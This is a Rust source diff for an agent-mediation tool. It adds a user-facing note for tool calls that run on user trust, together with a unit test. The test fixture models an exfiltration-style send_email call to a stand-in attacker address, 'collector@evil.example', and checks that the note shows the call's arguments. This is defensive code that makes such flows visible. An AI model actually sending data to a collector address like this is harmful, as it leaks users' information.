@@ -8,8 +8,9 @@ use std::task::{Context, Waker};
 use std::time::Duration;
 
 use async_trait::async_trait;
+use hub::question::arguments;
 use hub::trace::{Call, Event, Flow, Record, Text, UNANSWERED, escape, escape_lines, show};
-use ifc::Answer;
+use ifc::{Answer, Basis};
 use indicatif::{ProgressBar, ProgressStyle};
 use rustix::event::{PollFd, PollFlags, Timespec, poll};
 use rustix::io::Errno;
@@ -305,7 +306,7 @@ fn note(record: &Record, file: &str) -> Option<String> {
                 by,
                 ..
             },
-        ) => permitted(call, by),
+        ) => permitted(call, by).or_else(|| by_trust(call, by)),
         (
             _,
             Event::Returned {
@@ -360,6 +361,24 @@ fn permitted(call: &Call, by: &str) -> Option<String> {
     Some(format!(
         "note: {app}.{tool} {arguments} runs by your permission; revoke it with `sluice permissions revoke {id}`\n"
     ))
+}
+
+/// One line about a call that runs since the user trusts what it depends on: only the texts were shown.
+fn by_trust(call: &Call, by: &str) -> Option<String> {
+    let is_trusted = by == Basis::UserTrust.to_string();
+    let arguments = arguments(&call.arguments).unwrap_or_default();
+    let arguments = arguments.iter().map(|it| {
+        let argument = format!("{}: {}", it.name, it.value);
+        shortened(&escape(&argument), COLUMNS)
+    });
+    let arguments: Vec<String> = arguments.collect();
+    let (app, tool) = (escape(&call.app), escape(call.tool.as_str()));
+    is_trusted.then(|| {
+        format!(
+            "note: {app}.{tool} ({}) runs because you trust what it depends on\n",
+            arguments.join(", ")
+        )
+    })
 }
 
 /// Names the text that is masked since no provider is cleared for it.
@@ -579,6 +598,25 @@ impl std::error::Error for ReaderGone {}
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_call_that_runs_by_trust_is_named_with_all_its_arguments() {
+        let call: Call = serde_json::from_value(serde_json::json!({
+            "app": "mail", "tool": "send_email", "label": [],
+            "arguments": format!(r#"{{"body":"{}","to":["collector@evil.example"]}}"#, "word ".repeat(99)),
+        }))
+        .unwrap();
+        let trust = "user, who trusts what it depends on";
+        let line = by_trust(&call, trust).unwrap();
+        for part in [
+            "mail.send_email (",
+            "body: ",
+            r#"to: ["collector@evil.example"]"#,
+        ] {
+            assert!(line.contains(part), "{part} is missing in {line}");
+        }
+        assert_eq!(by_trust(&call, "policy mail.send_email.limit"), None);
+    }
 
     #[test]
     fn what_no_provider_may_see_is_named_by_its_taints() {
